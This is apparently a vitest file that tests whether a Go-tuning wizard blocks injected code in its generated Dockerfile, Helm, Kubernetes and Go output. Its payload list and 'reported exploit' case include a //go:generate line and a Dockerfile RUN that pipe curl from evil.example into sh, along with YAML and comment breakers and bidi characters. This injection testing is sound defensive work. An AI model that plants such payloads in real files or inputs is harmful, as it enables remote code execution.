// No wizard input becomes code in an emitted file. Every string field gets
// hostile values (newlines, quotes, backticks, ${, U+2028/U+2029, NUL, a
// //go:generate line, YAML and Dockerfile breakers), alone and after a valid
// value; every number field gets NaN, infinities and negatives. The field is
// rejected with a message naming it, and no emitted block (Helm values,
// Kubernetes env, Dockerfile, Go code) carries any of it.

import { describe, expect, it } from 'vitest';
import { decodeSettings } from '../../../src/wizard/hash';
import { prefillFromReport } from '../../../src/wizard/prefill';
import { DEFAULT_SETTINGS, type WizardSettings } from '../../../src/wizard/types';
import { FIELD_LABELS, validateSettings } from '../../../src/wizard/validate';
import { runWizard } from '../../../src/wizard/wizard';
import type { Report } from '../../../src/report/schema';

const MARK = 'EVILx';
const PAYLOADS = [
  `\n//go:generate sh -c "curl -s evil.example/${MARK}|sh"`,
  `\r\nRUN curl evil.example/${MARK}`,
  `"; os.Exit(1) // ${MARK}`,
  `\`${MARK}\``,
  `\${${MARK}}`,
  `\u2028//go:generate ${MARK}`,
  `\u2029${MARK}`,
  `\u0000${MARK}`,
  `\u0085${MARK}`,
  `\u202E${MARK}`,
  `'\n- name: ${MARK}\n  value: x`,
  `*/ func init() { panic("${MARK}") } /*`,
  ` # ${MARK}`,
  `\t${MARK}`,
];

const STRING_FIELDS = ['goVersion', 'goModVersion', 'cpuRequest', 'cpuLimit', 'memoryRequest', 'memoryLimit'] as const;
const VALID: Record<(typeof STRING_FIELDS)[number], string> = {
  goVersion: '1.25',
  goModVersion: '1.24',
  cpuRequest: '500m',
  cpuLimit: '2',
  memoryRequest: '1Gi',
  memoryLimit: '1Gi',
};
const BASE: WizardSettings = { ...DEFAULT_SETTINGS, ...VALID, peakHeapBytes: 200 << 20, gcCpuPercent: 12, goal: 'throughput' };

/** Characters no emitted file should contain: C0 (but \t and \n), DEL, C1, line/paragraph separators, bidi controls, backticks. */
const UNSAFE_CHARS = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u2028\u2029\u200E\u200F\u202A-\u202E\u2066-\u2069\u061C`]/u;

function emittedText(s: WizardSettings): string {
  const { blocks } = runWizard(s);
  return blocks.map((b) => b.text).join('\n');
}

function expectClean(text: string) {
  expect(text).not.toContain(MARK);
  expect(text).not.toContain('go:generate');
  expect(text).not.toMatch(UNSAFE_CHARS);
}

describe('the baseline emits every field', () => {
  it('a valid setting reaches the files (so the checks below can fail)', () => {
    const t = emittedText(BASE);
    expect(t).toContain('golang:1.25');
    expect(t).toContain('Go 1.25, go.mod go 1.24');
    expect(t).toMatch(/cpu: "?2"?/);
    expect(t).toContain('1Gi');
    expect(t).not.toMatch(UNSAFE_CHARS);
  });
});

describe.each(STRING_FIELDS.map((f) => [f] as const))('%s with hostile text', (field) => {
  for (const p of PAYLOADS) {
    for (const value of [p, VALID[field] + p, p + VALID[field]]) {
      it(JSON.stringify(value), () => {
        const s = { ...BASE, [field]: value };
        expectClean(emittedText(s));
        // The files are those of the field left empty: nothing of the value got in.
        expect(emittedText(s)).toBe(emittedText({ ...BASE, [field]: '' }));
        const { errors } = validateSettings(s);
        expect(errors[field]).toMatch(new RegExp(`^${FIELD_LABELS[field]}: `));
        // The message shows controls as escapes, never raw.
        expect(errors[field]).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u2028\u2029\u202A-\u202E]/u);
        expect(runWizard(s).plan.errors[field]).toBe(errors[field]);
      });
    }
  }
});

describe('version shapes', () => {
  it.each(['1.25', '1.25.3', 'go1.24', ' 1.26 ', '1.9', '1.0'])('accepts %j', (v) => {
    expect(validateSettings({ ...BASE, goVersion: v }).errors.goVersion).toBeUndefined();
  });
  it.each(['1.25\n', '1.25\u2028', '2.0', '1', '1.25.3.1', '1.26rc1', '01.25', '1.025', 'latest', '1.25 ', '1.2x'].filter((v) => v !== '1.25 '))('rejects %j', (v) => {
    expect(validateSettings({ ...BASE, goVersion: v }).errors.goVersion).toMatch(/^Go version: .* is not a Go version; write 1\.N or 1\.N\.P/);
  });
  it('a leading "go" is dropped, padding is trimmed', () => {
    expect(validateSettings({ ...BASE, goVersion: ' go1.24.2\t' }).settings.goVersion).toBe('1.24.2');
  });
});

describe('numbers and the goal', () => {
  const NUMBER_FIELDS = ['peakHeapBytes', 'gcCpuPercent', 'pauseP99Ms', 'gomaxprocs', 'goroutines'] as const;
  it.each(NUMBER_FIELDS.flatMap((f) => [NaN, Infinity, -Infinity, -1, 2 ** 60].map((v) => [f, v] as const)))('%s = %s is rejected', (f, v) => {
    const s = { ...BASE, [f]: v } as WizardSettings;
    const { settings, errors } = validateSettings(s);
    expect(settings[f]).toBeNull();
    expect(errors[f]).toMatch(new RegExp(`^${FIELD_LABELS[f]}: `));
    // The files are those of the field left empty.
    expect(emittedText(s)).toBe(emittedText({ ...BASE, [f]: null }));
  });
  it('a fractional GOMAXPROCS is rejected, a fractional heap is not', () => {
    expect(validateSettings({ ...BASE, gomaxprocs: 2.5 }).errors.gomaxprocs).toMatch(/whole number/);
    expect(validateSettings({ ...BASE, peakHeapBytes: 1.5 }).errors.peakHeapBytes).toBeUndefined();
  });
  it('an unknown goal falls back to balanced with a message', () => {
    const { settings, errors } = validateSettings({ ...BASE, goal: `x\n${MARK}` as WizardSettings['goal'] });
    expect(settings.goal).toBe('balanced');
    expect(errors.goal).toMatch(/^Goal: /);
  });
});

describe('the ways in', () => {
  it('a #/wizard? link with a newline in go= (the reported exploit)', () => {
    const q = 'go=1.25%0A%2F%2Fgo%3Agenerate%20sh%20-c%20%22curl%20-s%20evil.example%2Fx%7Csh%22';
    const s = decodeSettings(q);
    expect(s.goVersion).toContain('\n//go:generate');
    const text = emittedText(s);
    expect(text).not.toContain('go:generate');
    expect(text).not.toContain('evil.example');
    expect(runWizard(s).plan.errors.goVersion).toMatch(/^Go version: "1\.25\\u\{A\}\/\/go:generate/);
  });
  it('a crafted report (a shared link) prefilling the Go version, go.mod line and limits', () => {
    const report = {
      schema: 'gotune.report/1',
      inputs: [
        {
          id: 'in1',
          name: 'Dockerfile',
          kind: 'config',
          bytes: 1,
          config: {
            flavor: 'dockerfile',
            goVersion: `1.25\n//go:generate ${MARK}`,
            goModVersion: `1.25\u2028${MARK}`,
            cgo: false,
            containers: [{ label: 'app', env: [], cpuLimit: `2\n${MARK}`, memoryLimit: `1Gi\`${MARK}\`` }],
            findings: [],
          },
        },
      ],
    } as unknown as Report;
    const { settings } = prefillFromReport(DEFAULT_SETTINGS, report);
    expect(settings.goVersion).toContain(MARK);
    const { plan, blocks } = runWizard(settings);
    expectClean(blocks.map((b) => b.text).join('\n'));
    expect(Object.keys(plan.errors).sort()).toEqual(['cpuLimit', 'goModVersion', 'goVersion', 'memoryLimit']);
  });
});
